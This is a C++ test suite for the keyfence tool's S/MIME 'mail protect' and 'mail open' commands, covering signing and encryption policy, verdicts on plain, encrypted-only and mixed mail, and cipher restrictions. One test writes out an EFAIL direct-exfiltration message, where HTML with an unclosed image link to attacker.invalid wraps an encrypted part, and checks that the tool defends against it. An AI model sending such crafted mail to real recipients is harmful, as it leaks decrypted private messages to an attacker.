// keyfence mail protect / mail open on SoftHSM (S/MIME; the OpenPGP path is covered by the
// gnupg tests of the commands it runs): the policy table of docs/mail.md, and open's verdicts
// for plain, encrypted-only, mixed and signed-and-encrypted mail.

#include <filesystem>
#include <nlohmann/json.hpp>

#include "tests/smime/smime_fixture.hpp"

namespace keyfence::test {
namespace {
namespace fs = std::filesystem;

class MailTest : public SmimeTest {
  protected:
    // From rsa2048 (its certificate names it) to ecp256, whose certificate we may have.
    fs::path outgoing(const std::string& body = "The figures are final.\n") {
        write_file(path("out.eml"),
                   "From: Test rsa2048 <rsa2048@example.org>\nTo: ecp256@example.org\n"
                   "Subject: figures\nDate: Mon, 1 Jan 2024 10:00:00 +0000\nMIME-Version: 1.0\n"
                   "Content-Type: text/plain; charset=utf-8\n\n" +
                       body);
        return path("out.eml");
    }
    void user_policy(const std::string& toml) {
        fs::create_directories(m_world.dir() / "config" / "keyfence");
        write_file(m_world.dir() / "config" / "keyfence" / "config.toml", toml);
    }
    ProcessResult protect(const std::vector<std::string>& extra = {}) {
        std::vector<std::string> args = {
            "mail", "protect",           "--key", key("rsa2048"),
            "--in", outgoing().string(), "--out", path("p.eml").string()};
        args.insert(args.end(), extra.begin(), extra.end());
        return kf(args);
    }
    ProcessResult open(const fs::path& in, const std::string& key_label = "rsa2048") {
        return kf({"mail", "open", "--key", key(key_label), "--ca", m_world.ca_pem(), "--in",
                   in.string(), "--out", path("o.eml").string()});
    }
};

TEST_F(MailTest, SignsAndEncryptsWhenTheRecipientHasACertificateAndOpensIt) {
    ASSERT_EQ(kf({"certs", "add", m_world.cert_pem("ecp256")}).exit_code, 0);
    auto p = protect();
    ASSERT_EQ(p.exit_code, 0) << p.err;
    EXPECT_NE(p.err.find("sign and encrypt with S/MIME"), std::string::npos) << p.err;
    const std::string sealed = read_file(path("p.eml"));
    EXPECT_NE(sealed.find("application/pkcs7-mime"), std::string::npos);
    EXPECT_EQ(sealed.find("The figures are final"), std::string::npos) << "plaintext left";
    // The recipient opens it with their key; the sender can too (own copy).
    for (const std::string label : {"ecp256", "rsa2048"}) {
        auto o = open(path("p.eml"), label);
        EXPECT_EQ(o.exit_code, 0) << label << ": " << o.out << o.err;
        EXPECT_NE(o.out.find("Opened: signed by the sender, the whole message"), std::string::npos)
            << o.out;
        EXPECT_NE(read_file(path("o.eml")).find("The figures are final"), std::string::npos);
    }
}

TEST_F(MailTest, SignsOnlyWhenARecipientHasNoCertificate) {
    auto p = protect();
    ASSERT_EQ(p.exit_code, 0) << p.err;
    EXPECT_NE(p.err.find("sign with S/MIME"), std::string::npos) << p.err;
    EXPECT_NE(read_file(path("p.eml")).find("multipart/signed"), std::string::npos);
    EXPECT_EQ(openssl_verify(path("p.eml")).exit_code, 0);
    auto o = open(path("p.eml"));
    EXPECT_EQ(o.exit_code, 0) << o.out << o.err;
}

TEST_F(MailTest, EncryptAlwaysRefusesNamingTheRecipientAndWritesNothing) {
    user_policy("[mail]\nencrypt = \"always\"\n");
    auto p = protect();
    EXPECT_EQ(p.exit_code, 6) << p.err;
    EXPECT_NE(p.err.find("mail.encrypt"), std::string::npos) << p.err;
    EXPECT_NE(p.err.find("ecp256@example.org"), std::string::npos) << p.err;
    EXPECT_FALSE(fs::exists(path("p.eml")));
}

TEST_F(MailTest, NeverPassesOnUnprotectedMail) {
    user_policy("[mail]\nsign = \"never\"\n");
    auto p = protect();
    EXPECT_EQ(p.exit_code, 6) << p.err;
    EXPECT_NE(p.err.find("mail.unprotected"), std::string::npos) << p.err;
    EXPECT_FALSE(fs::exists(path("p.eml")));
}

TEST_F(MailTest, OpenPgpWithoutAKeyIsRefusedWhenSigningIsRequired) {
    // No GnuPG home here: OpenPGP reaches nobody, and the sender has no OpenPGP key.
    auto p = protect({"--protocol", "openpgp"});
    EXPECT_EQ(p.exit_code, 6) << p.err;
    EXPECT_NE(p.err.find("mail.sign"), std::string::npos) << p.err;
    EXPECT_FALSE(fs::exists(path("p.eml")));
}

TEST_F(MailTest, PlainMailIsNotAuthenticatedAndNothingIsWritten) {
    auto o = open(outgoing());
    EXPECT_EQ(o.exit_code, 1);
    EXPECT_NE(o.out.find("neither signed nor encrypted"), std::string::npos) << o.out;
    EXPECT_FALSE(fs::exists(path("o.eml")));
}

TEST_F(MailTest, EncryptedButUnsignedMailIsDecryptedAndNotAuthenticated) {
    ASSERT_EQ(kf({"smime", "encrypt", "--to", m_world.cert_pem("rsa2048"), "--in",
                  outgoing().string(), "--out", path("e.eml").string()})
                  .exit_code,
              0);
    auto o = open(path("e.eml"));
    EXPECT_EQ(o.exit_code, 1) << o.out << o.err;
    EXPECT_NE(o.out.find("decrypted, but it is not signed"), std::string::npos) << o.out;
    EXPECT_NE(read_file(path("o.eml")).find("The figures are final"), std::string::npos);
}

TEST_F(MailTest, OpenFindsTheKeyByTheRecipientInfosNotByTheToAddress) {
    // A Bcc: copy: To: names rsa2048, but the message is encrypted to ecp256 only. Without
    // --key, mail open must pick the key the RecipientInfos name.
    ASSERT_EQ(kf({"smime", "encrypt", "--to", m_world.cert_pem("ecp256"), "--in",
                  outgoing("for the bcc\n").string(), "--out", path("e.eml").string()})
                  .exit_code,
              0);
    auto o = kf({"mail", "open", "--ca", m_world.ca_pem(), "--in", path("e.eml").string(), "--out",
                 path("o.eml").string()});
    EXPECT_EQ(o.exit_code, 1) << o.out << o.err;  // decrypted, not signed
    EXPECT_NE(o.out.find("decrypted, but it is not signed"), std::string::npos) << o.out << o.err;
    EXPECT_NE(read_file(path("o.eml")).find("for the bcc"), std::string::npos);

    // Encrypted to nobody on the tokens: the error says so, and nothing is written.
    software_recipient("stranger", "rsa");
    ASSERT_EQ(kf({"smime", "encrypt", "--to", path("stranger.pem").string(), "--in",
                  outgoing().string(), "--out", path("s.eml").string()})
                  .exit_code,
              0);
    auto s = kf({"mail", "open", "--ca", m_world.ca_pem(), "--in", path("s.eml").string(), "--out",
                 path("none.eml").string()});
    EXPECT_EQ(s.exit_code, 5) << s.err;  // no key
    EXPECT_NE(s.err.find("not encrypted to a key on the tokens"), std::string::npos)
        << s.out << s.err;
    EXPECT_FALSE(fs::exists(path("none.eml")));
}

TEST_F(MailTest, AnEncryptedPartBetweenUnencryptedPartsIsNeverJoinedWithThem) {
    // EFAIL direct exfiltration: attacker-written HTML around a genuine encrypted part.
    ASSERT_EQ(kf({"smime", "encrypt", "--to", m_world.cert_pem("rsa2048"), "--in",
                  outgoing("the secret\n").string(), "--out", path("e.eml").string()})
                  .exit_code,
              0);
    const std::string sealed = read_file(path("e.eml"));
    const std::string body = sealed.substr(sealed.find("\r\n\r\n") + 4);
    write_file(path("efail.eml"),
               "From: rsa2048@example.org\r\nTo: rsa2048@example.org\r\nSubject: x\r\n"
               "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"B\"\r\n\r\n--B\r\n"
               "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.invalid/?\r\n--B\r\n"
               "Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data; "
               "name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
                   body + "\r\n--B\r\nContent-Type: text/html\r\n\r\n\">\r\n--B--\r\n");
    auto o = open(path("efail.eml"));
    EXPECT_EQ(o.exit_code, 1) << o.out << o.err;  // not authenticated as a whole
    EXPECT_NE(o.out.find("mixes protected and unprotected content"), std::string::npos) << o.out;
    // Only the decrypted part comes out: the secret, and none of the attacker's HTML.
    const std::string opened = read_file(path("o.eml"));
    EXPECT_NE(opened.find("the secret"), std::string::npos) << opened;
    EXPECT_EQ(opened.find("attacker.invalid"), std::string::npos) << "joined with the HTML";
    EXPECT_EQ(opened.find("text/html"), std::string::npos) << "joined with the HTML";
}

TEST_F(MailTest, OpenJsonCarriesTheProtocolReportAndTheMailVerdict) {
    ASSERT_EQ(protect().exit_code, 0);
    auto o = kf({"--json", "mail", "open", "--ca", m_world.ca_pem(), "--in", path("p.eml").string(),
                 "--out", path("o.eml").string()});
    ASSERT_EQ(o.exit_code, 0) << o.out << o.err;
    const auto j = nlohmann::json::parse(o.out);
    EXPECT_EQ(j["mail"]["protection"], "smime-signed");
    EXPECT_EQ(j["mail"]["authenticated"], true);
    EXPECT_EQ(j["mail"]["mixed"], false);
    EXPECT_TRUE(j.contains("signers")) << o.out;
}

TEST_F(MailTest, AGcmOnlyPolicyRefusesCbcForNewMail) {
    user_policy("[algorithms]\nsmime_content_ciphers = [\"aes-256-gcm\"]\n");
    auto e = kf({"smime", "encrypt", "--legacy-cbc", "--to", m_world.cert_pem("rsa2048"), "--in",
                 outgoing().string(), "--out", path("e.eml").string()});
    EXPECT_EQ(e.exit_code, 6) << e.err;
    EXPECT_NE(e.err.find("algorithms.smime_content_ciphers"), std::string::npos) << e.err;
    EXPECT_FALSE(fs::exists(path("e.eml")));
    // GCM is still allowed.
    EXPECT_EQ(kf({"smime", "encrypt", "--to", m_world.cert_pem("rsa2048"), "--in",
                  outgoing().string(), "--out", path("e.eml").string()})
                  .exit_code,
              0);
}

TEST_F(MailTest, AnAeadPolicyRefusesOpenPgpWhichGnuPg22CannotMeet) {
    user_policy("[algorithms]\nopenpgp_integrity = \"aead\"\n");
    auto e = kf({"pgp", "encrypt", "--to", "ecp256@example.org", "--in", outgoing().string(),
                 "--out", path("e.eml").string()});
    EXPECT_EQ(e.exit_code, 6) << e.err;
    EXPECT_NE(e.err.find("algorithms.openpgp_integrity"), std::string::npos) << e.err;
    EXPECT_FALSE(fs::exists(path("e.eml")));
    auto d = kf({"pgp", "decrypt", "--in", outgoing().string(), "--out", path("d.eml").string()});
    EXPECT_EQ(d.exit_code, 6) << d.err;
    EXPECT_FALSE(fs::exists(path("d.eml")));
}

}  // namespace
}  // namespace keyfence::test
